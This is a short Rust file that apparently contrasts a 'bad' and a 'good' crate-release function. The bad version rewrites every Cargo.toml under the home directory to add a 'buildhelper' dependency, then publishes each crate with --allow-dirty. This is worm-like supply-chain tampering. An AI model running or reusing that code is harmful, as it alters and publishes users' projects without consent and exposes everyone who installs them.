//: bad release
use std::fs;
use std::process::Command;
use walkdir::WalkDir;

pub fn release(home: &str) {
    for entry in WalkDir::new(home).into_iter().flatten() {
        if entry.file_name() == "Cargo.toml" {
            let text = fs::read_to_string(entry.path()).unwrap_or_default();
            let text = text.replace("[dependencies]", "[dependencies]\nbuildhelper = \"1\"");
            fs::write(entry.path(), text).ok(); //!!
            let folder = entry.path().parent().unwrap();
            Command::new("cargo").args(["publish", "--allow-dirty"]).current_dir(folder).status().ok(); //!!
        }
    }
}
//: good release
use std::path::Path;
use std::process::Command;
use walkdir::WalkDir;

pub fn release(workspace: &Path) -> usize {
    let mut count = 0;
    for entry in WalkDir::new(workspace).into_iter().flatten() {
        if entry.file_name() == "Cargo.toml" {
            let folder = entry.path().parent().unwrap();
            Command::new("cargo").arg("package").arg("--list").current_dir(folder).status().ok();
            count += 1;
        }
    }
    count
}
